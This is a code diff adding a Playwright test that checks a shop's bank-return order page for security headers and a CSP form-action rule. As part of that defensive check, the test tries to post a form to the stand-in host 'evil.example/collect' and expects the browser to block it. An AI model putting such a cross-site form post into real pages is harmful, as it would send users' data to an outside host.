@@ -4,6 +4,7 @@
 import { readdirSync, readFileSync, statSync } from 'node:fs';
 import path from 'node:path';
 import { expect, test } from '@playwright/test';
+import { checkOut, payInMirPay } from './shop-helpers';
 import { E2E_ENV } from './web-server';
 
 const SECRET_VALUES = [E2E_ENV.GATEWAY_USERNAME!, E2E_ENV.GATEWAY_PASSWORD!, E2E_ENV.CALLBACK_KEY!, E2E_ENV.SANDBOX_CONTROL_TOKEN!];
@@ -33,6 +34,44 @@ test('#29 every page: CSP, nosniff, referrer policy; no-store where the payment 
   }
   const https = await request.get('/', { headers: { 'x-forwarded-proto': 'https' } });
   expect(https.headers()['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
+});
+
+test('#29 the bank’s return to the order page, which skips the proxy: the same headers, and form-action in the page', async ({
+  page,
+  baseURL,
+}) => {
+  const returned = page.waitForResponse((response) => /\/orders\/[\w-]{22}\?orderId=/.test(response.url()));
+  await checkOut(page, baseURL!, { cart: 'mug:1' });
+  await payInMirPay(page, 'mir-0047');
+  const answer = await returned;
+  await expect(page.getByTestId('order-status')).toHaveAttribute('data-state', 'paid');
+  // The headers are next.config.js's, and no X-Request-Id: the answer the proxy did not touch.
+  const headers = answer.headers();
+  expect(headers['x-request-id']).toBeUndefined();
+  for (const directive of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"])
+    expect(headers['content-security-policy']).toContain(directive);
+  expect(headers['x-content-type-options']).toBe('nosniff');
+  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
+  expect(headers['cache-control']).toContain('no-store');
+  // form-action, with the configured gateway (here the sandbox, at the shop's own origin), in the head.
+  const html = await answer.text();
+  const meta = html.search(/<meta http-equiv="Content-Security-Policy" content="form-action &#x27;self&#x27; https?:\/\/[\w.:-]+"\/>/);
+  expect(meta).toBeGreaterThan(0);
+  expect(meta).toBeLessThan(html.indexOf('</head>'));
+  // And the browser keeps to it: the returned page will not post a form to another site.
+  const blocked = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
+        const form = document.createElement('form');
+        form.method = 'post';
+        form.action = 'https://evil.example/collect';
+        document.body.append(form);
+        form.submit();
+        setTimeout(() => resolve('not blocked'), 3000);
+      }),
+  );
+  expect(blocked).toBe('form-action');
 });
 
 test('#27 a post from another origin, from "null" or without an Origin is refused', async ({ request, baseURL }) => {
